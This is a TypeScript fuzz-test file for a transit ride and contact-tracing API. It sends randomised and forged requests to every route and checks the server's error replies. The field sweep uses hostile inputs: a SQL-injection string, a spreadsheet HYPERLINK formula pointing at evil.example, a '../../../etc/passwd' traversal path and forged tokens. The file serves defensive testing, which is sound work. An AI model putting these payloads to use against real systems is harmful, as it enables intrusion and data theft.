/** `route field: deviation` found by the per-field sweep. */
const sweepDeviations = new Set<string>();
/** Error codes answered with another status than the one the shared contract gives them. */
const statusMismatches = new Map<string, number>();

function describeRequest(req: FuzzRequest, status: number, body: string): string {
  const payload =
    req.payload === undefined
      ? ''
      : ` body(${req.headers['content-type']}, ${req.payload.length} B)=${String(req.payload).slice(0, 200)}`;
  return `${req.method} ${req.url.slice(0, 300)} [${req.op}]${payload} → ${status} ${body.slice(0, 400)}`;
}

/** Checks one reply; returns the id of the known deviation it showed, if any. Throws on anything else. */
function check(
  req: FuzzRequest,
  status: number,
  headers: Record<string, unknown>,
  body: string,
): string | undefined {
  const where = () => describeRequest(req, status, body);
  if (status < 400 || (req.method === 'HEAD' && status < 500)) return undefined;
  const known = STRICT ? undefined : KNOWN_DEVIATIONS.find((d) => d.matches(req, status, body));
  if (known) {
    deviations.set(known.id, (deviations.get(known.id) ?? 0) + 1);
    return known.id;
  }
  if (status >= 500) throw new Error(`server error: ${where()}`);
  let parsed: unknown;
  try {
    parsed = JSON.parse(body);
  } catch {
    throw new Error(`error reply is not JSON: ${where()}`);
  }
  const err = (parsed as { error?: Record<string, unknown> } | null)?.error;
  const ok =
    typeof parsed === 'object' &&
    parsed !== null &&
    Object.keys(parsed).length === 1 &&
    typeof err === 'object' &&
    err !== null &&
    Object.keys(err).sort().join() === 'code,message' &&
    typeof err.code === 'string' &&
    CODES.has(err.code) &&
    typeof err.message === 'string';
  if (!ok) throw new Error(`error reply is not {error:{code,message}} with a known code: ${where()}`);
  if (!String(headers['content-type']).startsWith('application/json'))
    throw new Error(`error reply is not application/json (${String(headers['content-type'])}): ${where()}`);
  const code = err.code as ErrorCode;
  if (ERRORS[code].status !== status && code !== 'validation_failed') {
    const k = `${code}: ${status}`;
    statusMismatches.set(k, (statusMismatches.get(k) ?? 0) + 1);
  }
  return undefined;
}

async function send(req: FuzzRequest) {
  return t.app.inject({
    method: req.method as 'GET',
    url: req.url,
    headers: req.headers,
    ...(req.payload !== undefined ? { payload: req.payload } : {}),
    ...(req.remoteAddress ? { remoteAddress: req.remoteAddress } : {}),
  });
}

// --- the run --------------------------------------------------------------------------------------------------

beforeAll(async () => {
  const op = w.tokens.operator;

  const managed = await createCarrier(t, op, { kind: 'bus', plate: '粤B00001', route: '1路', city: '深圳' });
  const retiree = await createCarrier(t, op, { kind: 'taxi', plate: '粤B00002', city: '深圳' });
  const ride = await createCarrier(t, op, { kind: 'bus', plate: '粤B00003', route: '2路', city: '深圳' });
  const foreign = await createCarrier(t, w.tokens.otherOperator, {
    kind: 'ferry',
    plate: 'F-1',
    city: '珠海',
  });
  await t
    .http()
    .post(`/v1/carriers/${ride.carrier.id}/staff`)
    .set('authorization', op)
    .send({ clientId: w.staff.clientId })
    .expect(200);
  // A revoked code (the poster was replaced) and the code of a retired carrier.
  await t.http().post(`/v1/carriers/${managed.carrier.id}/code`).set('authorization', op).expect(201);
  await t.http().post(`/v1/carriers/${retiree.carrier.id}/retire`).set('authorization', op).expect(200);

  const p1 = await confirmedPassenger(t, 'fuzz-p1');
  const p2 = await confirmedPassenger(t, 'fuzz-p2', {
    name: '李四',
    phone: '13900001111',
    idNumber: '11010519491231002X',
  });
  const unconfirmed = await passengerToken(t, 'fuzz-unconfirmed');
  const victims = await Promise.all([1, 2, 3].map((i) => confirmedPassenger(t, `fuzz-victim-${i}`)));
  for (const auth of [p1, p2]) {
    await t
      .http()
      .post('/v1/rides')
      .set('authorization', auth)
      .send({ code: ride.code.url, clientRideId: randomUUID() })
      .expect(201);
  }
  const personIds = await Promise.all(
    [p1, p2].map(
      async (auth) =>
        (await t.http().get('/v1/passengers/me').set('authorization', auth).expect(200)).body.id as string,
    ),
  );
  const opened = await t
    .http()
    .post('/v1/cases')
    .set('authorization', w.tokens.official)
    .send({
      subject: { phone: '13812345678' },
      infectiousFrom: new Date(Date.now() - 3 * 3600_000).toISOString(),
      infectiousTo: new Date().toISOString(),
      caseNumber: 'FUZZ-1',
      reason: 'fuzzing',
    })
    .expect(201);
  const statusToken = await t
    .http()
    .post('/v1/passengers/me/status-token')
    .set('authorization', p2)
    .expect(200);

  // Tokens the server issued whose subject is gone or disabled: a deleted passenger, a disabled client.
  const deletedPassenger = `Bearer ${t.app.ctx.tokens.sign({ sub: randomUUID(), role: 'passenger', scope: 'passenger', cv: t.config.consentVersion }, 3600)}`;
  const doomed = await t
    .http()
    .post('/v1/admin/clients')
    .set('authorization', w.tokens.admin)
    .send({ name: 'doomed', role: 'official' })
    .expect(201);
  const doomedAuth = await clientToken(t, doomed.body);
  await t
    .http()
    .post(`/v1/admin/clients/${doomed.body.clientId}/disable`)
    .set('authorization', w.tokens.admin)
    .expect(200);
  const readOnlyOfficial = await clientToken(t, w.official, 'trace:read');

  const tokens = [ride.code, managed.code, retiree.code, foreign.code];
  const forged = [
    ride.code.token.slice(0, -1) + (ride.code.token.endsWith('A') ? 'B' : 'A'),
    'A'.repeat(32),
    'B'.repeat(32),
    `${'7'.repeat(32)}`,
    ride.code.token.slice(0, 31),
    `${ride.code.token}A`,
  ];
  f = {
    carrierIds: [managed.carrier.id, retiree.carrier.id, ride.carrier.id, foreign.carrier.id],
    expendableCarrierIds: [managed.carrier.id, retiree.carrier.id],
    caseIds: [opened.body.id as string],
    personIds,
    clientIds: [w.admin, w.operator, w.otherOperator, w.staff, w.otherStaff, w.official].map(
      (c) => c.clientId,
    ),
    clientSecrets: [w.staff, w.official, w.otherStaff].map((c) => c.clientSecret),
    codes: {
      good: [
        ...[ride.code, foreign.code].flatMap((c) => [c.url, c.token]),
        ride.code.token.toLowerCase(),
        ` ${ride.code.url}/ `,
        `${ride.code.url}?utm=1#x`,
        ride.code.url.replace(/^https?:\/\/[^/]+/, 'https://evil.example'),
      ],
      // revoked (the poster was replaced), retired carrier, forged
      bad: [
        ...[managed.code, retiree.code].flatMap((c) => [c.url, c.token]),
        ...forged,
        ...forged.map((x) => ride.code.url.replace(ride.code.token, x)),
      ],
    },
    codeTokens: [...tokens.map((c) => c.token), ...forged.filter((x) => x.length === 32)],
    statusTokens: [
      statusToken.body.token as string,
      'not-a-status-token',
      `${statusToken.body.token as string}x`,
    ],
    consentVersion: t.config.consentVersion,
    validAuth: [
      ...Object.values(w.tokens),
      `Bearer ${RECEIPT_TOKEN}`,
      await officialPersonAuth(t, w.tokens.admin, ['supervisor', 'auditor', 'admin']),
      readOnlyOfficial,
      p1,
      p2,
      unconfirmed,
      deletedPassenger,
      doomedAuth,
    ],
    victimAuth: victims,
    hostileAuth: hostileTokens(t.app.ctx.keyring.jwtSecret, {
      passenger: p1.replace(/^Bearer /, ''),
      admin: w.tokens.admin.replace(/^Bearer /, ''),
    }),
  };

  const doc = (await t.app.inject({ method: 'GET', url: '/docs/json' })).json<OpenApi>();
  ops = [...operationsOf(doc), ...HIDDEN];
  for (const op of ops) fitting.set(op.key, await probeFitting(op));
}, 120_000);

afterAll(async () => {
  const lines = [...seen.entries()]
    .sort(([a], [b]) => a.localeCompare(b))
    .map(([op, byStatus]) => {
      const n = [...byStatus.values()].reduce((a, b) => a + b, 0);
      const statuses = [...byStatus.entries()].sort(([a], [b]) => a - b).map(([s, c]) => `${s}×${c}`);
      return `  ${op.padEnd(44)} ${String(n).padStart(5)}  ${statuses.join(' ')}`;
    });
  console.log(`fuzz replies by route (seed ${SEED}, ${RUNS} runs):\n${lines.join('\n')}`);
  if (deviations.size)
    console.log('known contract deviations met (server bugs):', Object.fromEntries(deviations));
  if (sweepDeviations.size)
    console.log(
      `fields that showed a known deviation in the sweep:\n${[...sweepDeviations].map((d) => `  ${d}`).join('\n')}`,
    );
  if (statusMismatches.size)
    console.log(
      'error codes with a status other than the contract gives:',
      Object.fromEntries(statusMismatches),
    );
});

/**
 * New carrier (staff bound), passenger with a ride, open case and status token for the sweep: the random run may
 * have retired, closed or re-keyed the first ones.
 */
async function freshFixtures(): Promise<void> {
  const op = w.tokens.operator;
  const { carrier, code } = await createCarrier(t, op, {
    kind: 'bus',
    plate: '粤S00001',
    route: '9路',
    city: '深圳',
  });
  await t
    .http()
    .post(`/v1/carriers/${carrier.id}/staff`)
    .set('authorization', op)
    .send({ clientId: w.staff.clientId })
    .expect(200);
  const spare = await createCarrier(t, op, { kind: 'taxi', plate: '粤S00002', city: '深圳' });
  const phone = '13700000001';
  const p = await confirmedPassenger(t, 'sweep-p', { name: '赵六', phone });
  await t
    .http()
    .post('/v1/rides')
    .set('authorization', p)
    .send({ code: code.url, clientRideId: randomUUID() })
    .expect(201);
  const me = await t.http().get('/v1/passengers/me').set('authorization', p).expect(200);
  const opened = await t
    .http()
    .post('/v1/cases')
    .set('authorization', w.tokens.official)
    .send({
      subject: { phone },
      infectiousFrom: new Date(Date.now() - 3600_000).toISOString(),
      infectiousTo: new Date().toISOString(),
      caseNumber: 'SWEEP-1',
      reason: 'sweep',
    })
    .expect(201);
  const status = await t.http().post('/v1/passengers/me/status-token').set('authorization', p).expect(200);
  // The run rotated and disabled the seeded clients' secrets: a new staff client of the operator.
  const staff = await createClient(t.db, { name: 'sweep staff', role: 'staff', operatorId: w.operatorId });
  f = {
    ...f,
    carrierIds: [carrier.id],
    expendableCarrierIds: [spare.carrier.id],
    caseIds: [opened.body.id as string],
    personIds: [me.body.id as string],
    codes: { good: [code.url, code.token], bad: f.codes.bad },
    codeTokens: [code.token],
    statusTokens: [status.body.token as string],
    clientIds: [staff.clientId],
    clientSecrets: [staff.clientSecret],
  };
}

describe('fuzzing every route', () => {
  it(
    `${RUNS} hostile requests: never 5xx, every error is {error:{code,message}} with a known code`,
    async () => {
      expect(ops.length).toBeGreaterThan(40);
      // Every protected route accepts some valid token (else the probe, or the fixtures, are wrong).
      expect(ops.filter((o) => !fitting.get(o.key)?.length).map((o) => o.key)).toEqual([]);
      const started = performance.now();
      await fc.assert(
        fc.asyncProperty(fc.oneof(...ops.map(requestFor)), async (req) => {
          const res = await send(req);
          const byStatus = seen.get(req.op) ?? new Map<number, number>();
          byStatus.set(res.statusCode, (byStatus.get(res.statusCode) ?? 0) + 1);
          seen.set(req.op, byStatus);
          check(req, res.statusCode, res.headers, res.body);
        }),
        { numRuns: RUNS, seed: SEED },
      );
      const seconds = (performance.now() - started) / 1000;
      console.log(
        `fuzz: ${RUNS} requests over ${ops.length} routes in ${seconds.toFixed(1)} s (${(RUNS / seconds).toFixed(0)}/s)`,
      );

      // Every route was exercised, and beyond authentication (some reply other than 401/403).
      if (RUNS >= ops.length * 50) {
        const missed = ops.filter((o) => !seen.has(o.key)).map((o) => o.key);
        expect(missed).toEqual([]);
        const stuckAtAuth = ops
          .filter((o) => [...(seen.get(o.key)?.keys() ?? [])].every((s) => s === 401 || s === 403))
          .map((o) => o.key);
        expect(stuckAtAuth).toEqual([]);
      }
    },
    Math.max(180_000, RUNS * 30),
  );

  // The random run meets each (route, field, nasty string) only by chance; this sweep meets all of them.
  it('every field of every route, one at a time, with each special string', async () => {
    const SPECIAL = [
      'a\u0000b',
      '\uD800x',
      '\u202Eabc\u200B',
      "x' OR '1'='1' --",
      '=HYPERLINK("http://evil.example")',
      '../../../etc/passwd',
      '名'.repeat(6000),
    ];
    await freshFixtures();
    const TRIES = 40;
    const draws = (name: string, s: Schema, op: Operation) =>
      fc.sample(valid(name, s, op.key), { seed: SEED, numRuns: TRIES });
    const failures: string[] = [];
    const noBase: string[] = [];
    let sent = 0;
    // Requests that change or end what others use (retire, re-key, disable, unbind, close, delete) go last.
    const destructive = (o: Operation) =>
      o.method === 'DELETE' || /\/(retire|code|disable|secret|close)$/.test(o.path) ? 1 : 0;
    for (const op of [...ops].sort((a, b) => destructive(a) - destructive(b))) {
      const build = (
        base: { auth: string | undefined; path: Record<string, string>; body: unknown },
        query: Record<string, string>,
      ): FuzzRequest => {
        const url = op.pathParams.reduce(
          (u, p) => u.replace(`{${p.name}}`, enc(base.path[p.name]!)),
          op.path,
        );
        const qs = Object.entries(query)
          .map(([k, v]) => `${k}=${enc(v)}`)
          .join('&');
        return {
          op: op.key,
          method: op.method,
          url: qs ? `${url}?${qs}` : url,
          headers: {
            ...(base.auth ? { authorization: base.auth } : {}),
            ...(base.body !== undefined ? { 'content-type': 'application/json' } : {}),
          },
          ...(base.body !== undefined ? { payload: JSON.stringify(base.body) } : {}),
        };
      };
      // A base request the server accepts (2xx), so that each variant differs from success in one field only.
      const fit = fitting.get(op.key) ?? [];
      const bodies = op.body ? draws('body', op.body, op) : [];
      const params = op.pathParams.map((p) => [p.name, draws(p.name, p.schema, op)] as const);
      let base: { auth: string | undefined; path: Record<string, string>; body: unknown } | undefined;
      let first: typeof base;
      for (let i = 0; i < TRIES && !base; i++) {
        const body = op.body ? bodies[i] : undefined;
        const candidate = {
          auth: fit[i % Math.max(fit.length, 1)],
          path: Object.fromEntries(params.map(([name, values]) => [name, String(values[i])])),
          body,
        };
        first ??= candidate;
        const res = await send(build(candidate, {}));
        sent++;
        if (res.statusCode < 300) base = candidate;
      }
      if (!base) noBase.push(op.key);
      const b = base ?? first!;
      const pathValues = b.path;
      const body = b.body;
      const variants: { field: string; make: (v: string) => FuzzRequest }[] = [
        ...op.pathParams.map((p) => ({
          field: `path ${p.name}`,
          make: (v: string) => build({ ...b, path: { ...pathValues, [p.name]: v } }, {}),
        })),
        ...op.query.map((p) => ({
          field: `query ${p.name}`,
          make: (v: string) => build(b, { [p.name]: v }),
        })),
        ...stringLeaves(body).map((leaf) => ({
          field: `body ${leaf.join('.')}`,
          make: (v: string) => build({ ...b, body: withLeaf(body, leaf, v) }, {}),
        })),
        // optional string fields the base request left out
        ...Object.entries(op.body?.properties ?? {})
          .filter(([k, s]) => s.type === 'string' && !(k in (body as object)))
          .map(([k]) => ({
            field: `body ${k}`,
            make: (v: string) => build({ ...b, body: { ...(body as object), [k]: v } }, {}),
          })),
      ];
      for (const { field, make } of variants) {
        for (const special of SPECIAL) {
          const req = make(special);
          const res = await send(req);
          sent++;
          try {
            const deviation = check(req, res.statusCode, res.headers, res.body);
            if (deviation) sweepDeviations.add(`${op.key} ${field}: ${deviation}`);
          } catch (err) {
            failures.push(`${field} = ${JSON.stringify(special.slice(0, 12))}: ${(err as Error).message}`);
          }
        }
      }
    }
    console.log(
      `sweep: ${sent} requests; routes without an accepted base request: ${noBase.join(', ') || 'none'}`,
    );
    expect(failures).toEqual([]);
    expect(sent).toBeGreaterThan(300);
  }, 120_000);

  it('the server is healthy afterwards: /health and /ready answer 200, a normal scan registers', async () => {
    expect((await t.app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
    const ready = await t.app.inject({ method: 'GET', url: '/ready' });
    expect({ status: ready.statusCode, body: ready.json() }).toEqual({
      status: 200,
      body: { ready: true, database: 'up' },
    });

    const { code } = await createCarrier(t, w.tokens.operator, {
      kind: 'metro',
      plate: `FZ${Date.now() % 1e6}`,
      city: '深圳',
    });
    const auth = await confirmedPassenger(t, 'after-fuzz');
    const clientRideId = randomUUID();
    const first = await t
      .http()
      .post('/v1/rides')
      .set('authorization', auth)
      .send({ code: code.url, clientRideId });
    expect(first.status).toBe(201);
    const again = await t
      .http()
      .post('/v1/rides')
      .set('authorization', auth)
      .send({ code: code.url, clientRideId });
    expect({ status: again.status, id: again.body.ride?.id }).toEqual({
      status: 200,
      id: first.body.ride.id,
    });

    // No connection leaked or left waiting by the hostile requests.
    const pool = poolOf(t.db)!;
    expect(pool.waitingCount).toBe(0);
    expect(pool.totalCount).toBeLessThanOrEqual(pool.options.max);
  });
});

/** Paths of the string leaves of a JSON value. */
function stringLeaves(v: unknown, at: (string | number)[] = []): (string | number)[][] {
  if (typeof v === 'string') return [at];
  if (Array.isArray(v)) return v.flatMap((x, i) => stringLeaves(x, [...at, i]));
  if (typeof v === 'object' && v !== null)
    return Object.entries(v).flatMap(([k, x]) => stringLeaves(x, [...at, k]));
  return [];
}

/** A copy of `v` with the leaf at `path` replaced. */
function withLeaf(v: unknown, path: (string | number)[], leaf: unknown): unknown {
  if (!path.length) return leaf;
  const [head, ...rest] = path as [string | number, ...(string | number)[]];
  const copy = (Array.isArray(v) ? [...v] : { ...(v as object) }) as Record<string | number, unknown>;
  copy[head] = withLeaf(copy[head], rest, leaf);
  return copy;
}
